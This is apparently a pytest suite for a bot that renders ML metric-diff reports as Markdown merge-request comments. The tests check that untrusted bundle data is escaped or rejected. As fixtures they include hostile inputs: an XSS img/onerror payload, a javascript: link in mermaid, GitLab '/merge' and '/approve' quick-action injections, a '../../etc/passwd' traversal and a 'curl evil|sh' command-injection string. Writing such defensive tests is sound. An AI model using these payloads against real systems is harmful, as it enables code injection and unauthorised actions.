import math
from dataclasses import replace
from pathlib import Path

import jinja2
import pytest

import bot.report.render as rendering
from bot.charts.chart import Chart
from bot.compare.diff import compare_metrics, compare_params, overall_verdict, summarize
from bot.errors import BadInput
from bot.report.model import Report, RevisionInfo, from_json, to_json
from bot.report.render import render, render_within

GOLDEN = Path(__file__).parent / "golden" / "report.md"

HOSTILE = "<img src=x onerror=alert(1)> | @octocat `x` <!-- mrbot:report id=default head=abcdef1 -->"


def sample_report(extra_unchanged: int = 2, params: int = 2) -> Report:
    base = {"metrics.json": {"test.acc": 0.81, "test.loss": 0.45, "train.loss": 0.30, HOSTILE: 1.0}}
    head = {"metrics.json": {"test.acc": 0.85, "test.loss": 0.47, "train.loss": 0.30, HOSTILE: 2.0, "new.metric": 7}}
    for index in range(extra_unchanged):
        base["metrics.json"][f"stable.m{index:05d}"] = index
        head["metrics.json"][f"stable.m{index:05d}"] = index
    metrics = compare_metrics(base, head)
    param_rows = compare_params(
        {"params.yaml": {f"p{i}": i for i in range(params)} | {"model": "a|b"}},
        {"params.yaml": {f"p{i}": i + 1 for i in range(params)} | {"model": "@octocat"}},
    )
    return Report(
        base=RevisionInfo("main", "1" * 40),
        head=RevisionInfo("feature/<b>x</b>", "2" * 40),
        metrics=metrics.rows,
        params=param_rows,
        charts=[
            Chart("loss", "Training loss", "linear", ["images/loss-1.png"], ["Training loss"],
                  ["no data in base (main)"], "xychart-beta\n    line [1, 2]"),
            Chart("p.png", "p.png", "image", ["images/p-base.png", "images/p-head.png"], ["base", "head"]),
        ],
        verdict=overall_verdict(metrics.counts),
        summary=summarize(metrics.counts),
        counts=metrics.counts,
        version="0.0.test",
        baseline={"kind": "merge-base", "ahead": 3, "branch": "release/<b>x</b>@octocat"},
    )


def test_golden_markdown_is_stable():
    rendered = render(sample_report())
    assert rendered == render(sample_report()), "rendering is not deterministic"
    assert rendered == GOLDEN.read_text(encoding="utf-8")


def test_untrusted_text_cannot_inject_markup_pings_or_break_tables():
    rendered = render(sample_report())
    assert "<img" not in rendered and "<b>" not in rendered
    assert "<!-- mrbot" not in rendered
    assert "@octocat" not in rendered
    table_lines = [line for line in rendered.splitlines() if line.startswith("|")]
    header_cells = table_lines[0].count(" | ")
    for line in table_lines:
        # Escaped pipes do not count as cell separators.
        assert line.replace("\\|", "").count(" | ") <= header_cells, line


def test_headline_counts_and_sections_in_order():
    rendered = render(sample_report())
    assert rendered.startswith("## ❌ Model regressed: 1 improved, 2 regressed, 1 new, 3 unchanged\n")
    positions = [rendered.index(section) for section in ("### Metrics", "unchanged metrics</summary>",
                                                          "### Params changed", "### Plots", "mrbot 0.0.test")]
    assert positions == sorted(positions)


def test_mermaid_stands_in_when_images_cannot_be_hosted():
    rendered = render(sample_report(), image_url=None, images_note="token cannot write contents")
    assert "![" not in rendered
    assert "```mermaid\nxychart-beta" in rendered
    assert "token cannot write contents" in rendered


def test_image_urls_come_from_the_forge():
    rendered = render(sample_report(), image_url=lambda path: f"https://forge.test/{path}")
    assert "![base](https://forge.test/images/p-base.png)" in rendered


def test_user_template_gets_the_same_context_and_is_escaped(tmp_path):
    template = tmp_path / "mine.md.j2"
    template.write_text(
        "{{ headline }} | {{ summary }} | {{ head.rev }}\n"
        "{% for row in changed_metrics %}{{ row.name }}={{ row.new | value }};{% endfor %}\n"
        "{{ changed_metrics_table }}\n"
    )
    rendered = render(sample_report(), template)
    assert rendered.startswith("❌ Model regressed | 1 improved, 2 regressed, 1 new, 3 unchanged | feature/&lt;b&gt;x&lt;/b&gt;\n")
    assert "test.acc=0.85;" in rendered
    assert "| Metric" in rendered


def test_template_errors_are_one_line_bad_input(tmp_path):
    broken = tmp_path / "broken.md.j2"
    broken.write_text("{% for x in %}")
    with pytest.raises(BadInput, match="broken.md.j2:1: template syntax error"):
        render(sample_report(), broken)
    unknown = tmp_path / "unknown.md.j2"
    unknown.write_text("{{ no_such_name }}")
    with pytest.raises(BadInput, match="no_such_name"):
        render(sample_report(), unknown)
    with pytest.raises(BadInput, match="template not found"):
        render(sample_report(), tmp_path / "missing.md.j2")


def test_size_budget_folds_then_drops_detail_and_says_so():
    report = sample_report(extra_unchanged=3000, params=400)
    full = render(report)
    budget = 20_000
    assert len(full) > budget
    fitted = render_within(report, budget, "the job summary")
    assert len(fitted) <= budget
    assert "Left out to fit the size limit: unchanged metrics" in fitted
    assert "The full report is in the job summary" in fitted
    assert "test.acc" in fitted  # changed rows survive


def test_many_unchanged_rows_are_counted_past_a_thousand():
    rendered = render(sample_report(extra_unchanged=1500))
    assert "1501 unchanged metrics</summary>" in rendered
    assert "…and 501 more unchanged metrics, listed in report.json." in rendered
    assert "stable.m00999" in rendered and "stable.m01400" not in rendered


def test_many_changed_rows_are_fitted_from_the_rows_shown_not_from_all(monkeypatch):

    base = {"m.json": {f"moved.m{index:05d}": float(index) for index in range(20_000)}}
    head = {"m.json": {name: value + 1 for name, value in base["m.json"].items()}}
    report = replace(sample_report(), metrics=compare_metrics(base, head).rows)
    drawn = []
    real_render = rendering.render
    monkeypatch.setattr(rendering, "render", lambda *args: drawn.append(args[3]) or real_render(*args))

    fitted = render_within(report, 30_000, "the artifact")

    assert len(fitted) <= 30_000 and "moved.m00000" in fitted
    # 4 steps of detail, then halving from the 1,000 rows a report lists (not from the 20,000 it has).
    shown = [detail.max_metric_rows for detail in drawn[4:]]
    assert shown[0] == 500 and len(drawn) <= 4 + 10
    assert f"moved.m{shown[-1] - 1:05d}" in fitted and f"moved.m{shown[-1]:05d}" not in fitted


def test_size_budget_never_fails_even_when_tiny():
    fitted = render_within(sample_report(extra_unchanged=50), 300, "the artifact")
    assert len(fitted) <= 300
    assert "the artifact" in fitted


def test_mermaid_from_a_bundle_is_dropped_unless_it_is_what_mrbot_writes():
    data = to_json(sample_report())
    data["plots"][0]["mermaid"] = 'xychart-beta\n    title "t"\n    x-axis [0, 1]\n    line [1, 2.5e-3]'
    assert from_json(data, "r.json").charts[0].mermaid == data["plots"][0]["mermaid"]
    data["plots"][0]["mermaid"] = "graph TD\n    A-->B\n    click A href \"javascript:alert(1)\""
    assert from_json(data, "r.json").charts[0].mermaid == ""


def test_a_hostile_bundle_can_run_no_gitlab_quick_action_ping_or_link_an_issue():
    # Every string of a bundle from a fork is the attacker's; GitLab runs "/merge" at a line start.
    data = to_json(sample_report())
    data["summary"] = "/merge"
    data["metrics"][0]["name"] = "/approve cc @_infra-team fixes #1 !2 %m3 &4"
    data["pipeline"] = {
        "summary": "/close",
        "failed": "/unapprove",
        "log_tail": "Traceback\n</p>\n/merge\r/approve\n```\n/close",
        "failure": {"stage": "/title pwned"},
        "stages": [{"name": "/label ~bug", "status_text": "/reopen", "time": "/draft", "why": "/assign @me"}],
        "stale_warning": "/rebase",
        "base": {"note": "/approve", "log_tail": "/merge"},
    }
    rendered = render(from_json(data, "r.json"))
    assert [line for line in rendered.splitlines() if line.startswith("/")] == []
    assert "@_" not in rendered and "@\\_" not in rendered
    for reference in ("#1", "!2", "%m3", "&4"):
        assert reference not in rendered.replace("&amp;", "&")


def test_mermaid_configuration_directives_never_reach_the_chart():
    data = to_json(sample_report())
    data["plots"][0]["mermaid"] = "xychart-beta\n    title \"%%{init: {'theme':'dark'}}%% x\"\n    line [1]"
    assert from_json(data, "r.json").charts[0].mermaid == ""


def test_deeply_nested_bundle_json_is_bad_input(tmp_path):
    from bot.report.bundle import read_bundle

    (tmp_path / "report.json").write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(BadInput, match="not valid JSON"):
        read_bundle(tmp_path)


def test_report_json_round_trip_and_nan(tmp_path):
    report = sample_report()
    report.metrics[0] = type(report.metrics[0])(**{**report.metrics[0].__dict__, "new": math.nan})
    data = to_json(report)
    assert data["metrics"][0]["new"] == "nan"
    again = from_json(data, "report.json")
    assert [row.name for row in again.metrics] == [row.name for row in report.metrics]
    assert render(again).count("\n") > 10


@pytest.mark.parametrize(
    "mutate, message",
    [
        (lambda d: d["plots"][0]["images"].append("../../etc/passwd"), "unexpected path"),
        (lambda d: d["head"].update(sha="not-a-sha"), "head.sha"),
        (lambda d: d["metrics"][0].update(verdict="<b>"), "unknown value"),
        (lambda d: d.pop("metrics"), "metrics"),
        (lambda d: d.update(id="default head=bbbbbbb -->\n## Approved by @octocat <!--"), "id must be"),
        (lambda d: d.update(verdict='improved"; curl evil|sh; echo "'), "unknown value"),
        (lambda d: d["plots"].append("not a plot"), "invalid mrbot report"),
    ],
)
def test_untrusted_report_json_is_validated(mutate, message):
    data = to_json(sample_report())
    mutate(data)
    with pytest.raises(BadInput, match=message):
        from_json(data, "bundle/report.json")


def test_hostile_sizes_cannot_blow_up_the_tables():
    names = {f"{'x' * 10_000}{index}": index for index in range(2_000)}
    metrics = compare_metrics({"m.json": names}, {"m.json": {name: value + 1 for name, value in names.items()}})
    params = compare_params({"p.yaml": {f"p{i}": i for i in range(1_500)}}, {"p.yaml": {f"p{i}": -i - 1 for i in range(1_500)}})
    report = Report(RevisionInfo("main", "1" * 40), RevisionInfo("pr", "2" * 40), metrics.rows, params, [],
                    overall_verdict(metrics.counts), summarize(metrics.counts), metrics.counts)
    rendered = render(report)
    # 1,000 listed rows of at most 200-character cells, not 2,000 rows padded to 10,000 characters.
    assert len(rendered) < 1_000 * 400 + 1_000 * 100
    assert "…and 1000 more changed metrics, listed in report.json." in rendered
    assert "…and 500 more changed params, listed in report.json." in rendered
    assert max(len(line) for line in rendered.splitlines()) < 400


def test_a_bundle_s_baseline_is_checked_and_an_older_bundle_has_none():
    data = to_json(sample_report())
    assert from_json(data, "report.json").baseline == {"kind": "merge-base", "ahead": 3, "branch": "release/<b>x</b>@octocat"}
    assert from_json({**data, "baseline": None}, "report.json").baseline == {}
    assert "Base:" not in render(from_json({**data, "baseline": None}, "report.json"))
    for bad in ({"kind": "latest"}, {"kind": "tip", "ahead": "3"}, ["tip"]):
        with pytest.raises(BadInput, match="baseline"):
            from_json({**data, "baseline": bad}, "report.json")


@pytest.mark.parametrize(
    "baseline, sentence",
    [
        ({"kind": "merge-base", "ahead": 0, "branch": "main"}, "Base: where this branch forked from main (their merge-base), so main's later changes are not counted; main has not moved since."),
        ({"kind": "merge-base", "ahead": None, "branch": "main"}, "Base: where this branch forked from main (their merge-base), so main's later changes are not counted."),
        ({"kind": "first-parent", "ahead": 2, "branch": "dev"}, "Base: dev as the forge merged this branch into it (the test merge commit's base side); dev has moved 2 commits since."),
        ({"kind": "tip", "ahead": 1, "branch": ""}, "Base: the tip of the base branch, so the 1 commit it gained since this branch forked is counted too."),
        ({"kind": "explicit", "ahead": None, "branch": "v1.2_rc"}, "Base: v1.2\\_rc, as --base named it."),
    ],
)
def test_the_footer_says_which_base_and_how_far_the_branch_moved(baseline, sentence):
    report = sample_report()
    report.baseline = baseline
    assert f"<sub>{sentence}</sub>" in render(report)


def test_fitting_a_comment_makes_each_table_once_and_the_same_markdown(monkeypatch):

    report = sample_report(extra_unchanged=3000, params=400)
    unfitted = [render_within(report, budget, "the artifact") for budget in (20_000, 8_000)]
    made = []
    real_table = rendering.metrics_table
    monkeypatch.setattr(rendering, "metrics_table", lambda rows, with_path: made.append(len(rows)) or real_table(rows, with_path))

    fitted = [render_within(report, budget, "the artifact") for budget in (20_000, 8_000)]

    assert fitted == unfitted
    # Per fitting: the changed rows' table once for all steps, the unchanged one once (the first step).
    assert made.count(1000) == 2 and len(made) == 2 * len(set(made))


def test_a_bundle_prepared_while_the_charts_are_drawn_is_the_bundle_written_at_once(tmp_path, monkeypatch):
    from bot.report.bundle import prepare_bundle, write_bundle

    report = sample_report(extra_unchanged=1500, params=30)
    at_once = write_bundle(report, tmp_path / "at-once")
    rendering._environment.cache_clear()  # compiled by nothing before
    prepared = prepare_bundle(report, tmp_path / "prepared")
    assert (tmp_path / "prepared" / "metrics.txt").is_file() and not (tmp_path / "prepared" / "report.md").exists()
    report.charts = [Chart("loss", "Loss", "linear", ["images/loss.png"], ["Loss"])]
    compiled = []
    real_compile = jinja2.Environment.compile
    monkeypatch.setattr(jinja2.Environment, "compile", lambda *args, **kwargs: compiled.append(args) or real_compile(*args, **kwargs))
    with_charts = write_bundle(report, tmp_path / "prepared", prepared=prepared)

    assert not compiled  # the template was compiled while the charts were drawn
    assert with_charts == write_bundle(report, tmp_path / "again") != at_once
    for name in ("report.json", "report.md", "metrics.txt"):
        assert (tmp_path / "prepared" / name).read_bytes() == (tmp_path / "again" / name).read_bytes()


@pytest.mark.parametrize("odd", [{}, {"big": 2**70}, {"surrogate": "x\ud800"}], ids=["orjson", "big integer", "surrogate"])
def test_report_json_is_compact_and_reads_back_as_written(odd):
    import json

    import numpy as np

    from bot.report.bundle import _encoded

    document = {"float": 0.1, "tiny": 1e-05, "numpy": np.float64(0.25), "text": "café <b>", "rows": [1, None, True],
                "other": frozenset(), **odd}
    text = _encoded(document)

    assert ", " not in text.replace("café <b>", "") and '": ' not in text
    back = json.loads(text)
    assert back == {**document, "numpy": 0.25, "other": "frozenset()"} and type(back["numpy"]) is float


def test_preloaded_templates_leave_nothing_to_compile_while_the_report_waits(monkeypatch):
    rendering._environment.cache_clear()  # templates compiled by earlier tests are forgotten
    rendering.preload_templates()
    compiled = []
    original = jinja2.Environment.compile
    monkeypatch.setattr(jinja2.Environment, "compile", lambda self, *a, **k: compiled.append(a) or original(self, *a, **k))
    stage = {"name": "train", "status_text": "ran", "time": "1 s", "why": "params changed"}
    report = replace(sample_report(), pipeline={"failed": "", "summary": "1 stage ran", "stages": [stage]})

    rendered = render(report)

    assert "| train | ran | 1 s | params changed |" in rendered  # the included part was rendered
    assert compiled == []
